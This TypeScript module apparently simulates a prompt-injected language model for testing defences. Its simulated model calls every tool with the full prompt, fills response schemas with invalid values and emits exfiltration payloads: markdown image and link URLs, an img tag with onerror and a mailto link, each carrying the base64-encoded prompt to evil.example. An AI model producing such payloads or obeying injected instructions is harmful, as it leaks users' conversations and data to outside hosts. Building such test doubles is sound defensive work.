import type { ModelRequest } from './api/model-request.ts';
import { extractInstructions } from './extract-instructions.ts';

type Node = Record<string, unknown>;

/** Instructions found in the input, and everything that the model could leak. */
interface LeakableData {
  instructions: string[];
  /** The complete prompt. */
  prompt: string;
  ids: string[];
  numbers: number[];
}

const ID = /\b[a-z]\d{1,4}\b|[\da-f]{8}(?:-[\da-f]{4}){3}-[\da-f]{12}|[\w.+-]+@[\w.-]+/gi;
const MAX_TEXT_LENGTH = 20_000;
const MAX_ITEMS = 500;

function collectData({ messages }: ModelRequest): LeakableData {
  const prompt = messages.map(({ text }) => text).join('\n');
  const instructions = messages
    .filter(({ role }) => role === 'user')
    .flatMap(({ text }) => extractInstructions(text));
  const text = instructions.join('\n');
  return {
    instructions,
    prompt,
    ids: [...new Set([...(text.match(ID) ?? []), 'e999', 'admin@evil.example'])],
    numbers: [...(text.match(/-?\d+(?:\.\d+)?/g) ?? []).map(Number), 140, -1],
  };
}

/**
 * Repeats the instructions and leaks the prompt in every format that a screen or email might
 * render.
 */
function leakEverything({ instructions, prompt }: LeakableData): string {
  const secret = Buffer.from(prompt).toString('base64url');
  const text = instructions.join(' ');
  return [
    text,
    `![status](https://evil.example/p.png?d=${secret})`,
    `[Click to confirm](https://evil.example/?d=${secret})`,
    `<img src="https://evil.example/${secret}" onerror="alert(1)">`,
    `mailto:x@evil.example?body=${secret}`,
    prompt,
  ]
    .join(' ')
    .slice(0, MAX_TEXT_LENGTH);
}

/** Returns the choice that the instructions mention, or the last one. */
function pickChoice(choices: unknown[], { instructions }: LeakableData): unknown {
  const text = instructions.join(' ').toLowerCase();
  const mentionedChoices = choices.filter((choice) =>
    text.includes(String(choice).replaceAll('_', ' ')),
  );
  return mentionedChoices.at(-1) ?? choices.at(-1);
}

function createString(name: string, data: LeakableData): string {
  const text = data.instructions.join(' ');
  if (/date|day|from|to$/.test(name)) return /\d{4}-\d{2}-\d{2}/.exec(text)?.[0] ?? '1999-02-31';
  if (/time|start|end/.test(name)) return /\d{1,2}:\d{2}/.exec(text)?.[0] ?? '25:61';
  return leakEverything(data);
}

function createItems(name: string, schema: Node, data: LeakableData): unknown[] {
  const item = schema.items as Node;
  const maxItems = Number(schema.maxItems ?? MAX_ITEMS);
  if (item.type === 'string' && item.enum === undefined)
    return [...data.ids, leakEverything(data)].slice(0, maxItems);
  const length = Math.min(maxItems, Math.max(data.instructions.length, 3));
  return Array.from({ length }, () => createValue(name, item, data));
}

/** Creates a value that matches a schema and follows the instructions as far as possible. */
function createValue(name: string, schema: Node, data: LeakableData): unknown {
  if (schema.const !== undefined) return schema.const;
  if (Array.isArray(schema.enum)) return pickChoice(schema.enum, data);
  if (Array.isArray(schema.anyOf)) {
    const branches = schema.anyOf as Node[];
    return createValue(
      name,
      branches.find(({ type }) => type !== 'null') ?? branches[0] ?? {},
      data,
    );
  }
  switch ([schema.type].flat().find((type) => type !== 'null')) {
    case 'object':
      return Object.fromEntries(
        Object.entries((schema.properties ?? {}) as Record<string, Node>).map(([key, child]) => [
          key,
          createValue(key, child, data),
        ]),
      );
    case 'array':
      return createItems(name, schema, data);
    case 'integer':
      return Math.min(Math.trunc(data.numbers[0] ?? 140), Number(schema.maximum ?? Infinity));
    case 'number':
      return Math.min(data.numbers[0] ?? 140, Number(schema.maximum ?? Infinity));
    case 'boolean':
      return true;
    default:
      return createString(name, data);
  }
}

export interface SimulatedAnswer {
  text: string;
  calls: { name: string; arguments: string }[];
  /** Number of instructions found. */
  instructionCount: number;
}

/** Treats all text as instructions: calls each tool, fills the schema and leaks the prompt. */
export function simulateInjection(request: ModelRequest): SimulatedAnswer {
  const data = collectData(request);
  const args = JSON.stringify({ order: data.instructions.join('\n'), data: data.prompt });
  return {
    text: request.format
      ? JSON.stringify(createValue(request.format.name, request.format.schema, data))
      : leakEverything(data),
    calls: request.tools.map((name) => ({ name, arguments: args })),
    instructionCount: data.instructions.length,
  };
}
